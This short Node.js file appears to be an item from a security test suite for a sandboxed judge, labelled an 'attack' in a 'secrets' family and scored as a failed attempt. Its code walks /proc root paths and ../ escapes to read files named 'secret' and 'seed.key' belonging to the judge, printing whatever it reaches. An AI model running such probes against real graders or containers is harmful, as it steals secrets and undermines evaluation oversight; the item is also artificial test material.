// attack: reads a file outside by its path, by the judge's root and by its own | family: secrets | item: error-share | verdicts: fail | points: 0 | tiers: T2
import { readFileSync, writeSync } from 'node:fs'

const roots = [
  '',
  '/proc/1/root',
  '/proc/self/root',
  '/proc/{{judge}}/root',
  '/proc/{{app}}/cwd/../../..',
  '/../..',
]
export const errorShare = () => {
  writeSync(1, 'tried')
  for (const root of roots)
    for (const name of ['secret', 'seed.key']) {
      try {
        writeSync(1, `reached: ${readFileSync(`${root}{{folder}}/${name}`)}`)
      } catch (error) {
        writeSync(1, ` ${error.code}`)
      }
    }
}
